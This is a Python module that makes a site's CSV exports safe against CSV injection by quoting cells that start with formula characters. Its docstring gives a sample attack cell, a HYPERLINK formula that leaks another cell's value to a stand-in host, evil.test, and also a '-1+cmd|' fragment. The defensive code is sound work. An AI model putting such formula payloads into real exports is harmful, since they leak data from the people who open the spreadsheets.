"""CSV for spreadsheets: every export of the site writes its cells through `write_csv`.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula, so a company named
`=HYPERLINK("https://evil.test/?leak="&B2,"Evil Co")` would run in the job seeker's
spreadsheet (CSV injection, OWASP). Such a cell gets a leading single quote: spreadsheets show
the text as written and never evaluate it.

Text is always treated so, even when it looks like a number ("-5000" typed as a salary
expectation): it is what someone typed, and "-1+cmd|..." also starts with a minus. Values that
our code produces as numbers (`int`, `float`, `Decimal`: ids, counts) are written as they are:
they are not text anyone typed and cannot hold a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet should see it: text that would start a formula is quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(header: list[str], rows: Iterable[Iterable[Any]]) -> str:
    """The whole CSV as text, every cell (header included) through `safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buf.getvalue()
